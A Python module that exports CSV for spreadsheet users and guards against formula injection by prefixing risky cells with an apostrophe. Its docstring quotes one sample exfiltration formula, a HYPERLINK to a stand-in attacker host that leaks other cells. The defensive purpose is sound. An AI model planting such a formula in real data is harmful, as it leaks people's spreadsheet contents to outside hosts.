"""CSV for people who will open it in a spreadsheet.

- UTF-8 with a byte-order mark: without it, Excel for Windows reads the file
  as Windows-1252 and turns every "é" into "Ã©".
- ";" between cells, as French Excel expects when it opens a CSV by double-click
  (with "," everything would land in one column); CRLF between rows, quotes only
  where needed. Palabre's own import detects either separator.
- Formula injection disarmed. A spreadsheet runs a cell starting with "=",
  "+", "-" or "@" as a formula, and one starting with a tab or carriage
  return may be trimmed into one. Contributions are typed by members, so an
  export opened by a facilitator could otherwise run what a member wrote,
  e.g. =HYPERLINK("https://evil.example/?"&A2, "Cliquez") leaking other
  cells. Such a text gets a leading "'", the mark spreadsheets read as
  "this is text" (OWASP's advice). Numbers are left alone, written as
  numbers or as text ("-1", "+2.5"): a number is not a formula, and a vote
  of -1 must stay -1.
"""

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from datetime import date, datetime, time

UTF8_BOM = "\ufeff"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+([.,]\d+)?")


def to_csv_bytes(columns: Sequence[str], rows: Iterable[Sequence | Mapping]) -> bytes:
    """The CSV file of these rows under a header of `columns`, ready to download.

    A row is a sequence of cells in column order, or a mapping from column
    name to cell (a missing column is blank). None is written blank, dates
    and times in ISO 8601. A row of the wrong length, or a mapping with a key
    that is not a column, raises ValueError: that is a bug, not a user error.
    """
    columns = list(columns)
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL)
    writer.writerow([_cell(name) for name in columns])
    for row in rows:
        writer.writerow([_cell(value) for value in _ordered(columns, row)])
    return (UTF8_BOM + buffer.getvalue()).encode("utf-8")


def _ordered(columns: list[str], row: Sequence | Mapping) -> list:
    if isinstance(row, Mapping):
        unknown = set(row) - set(columns)
        if unknown:
            raise ValueError(f"not columns of this CSV: {sorted(unknown)}")
        return [row.get(name) for name in columns]
    if isinstance(row, str) or len(row) != len(columns):
        raise ValueError(f"row has {len(row)} cells for {len(columns)} columns: {row!r}")
    return list(row)


def _cell(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, (datetime, date, time)):
        return value.isoformat()
    if isinstance(value, str):
        return neutralise_formula(value)
    return str(value)


def neutralise_formula(text: str) -> str:
    """The text with a leading "'" if a spreadsheet would run it as a formula."""
    if text.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text
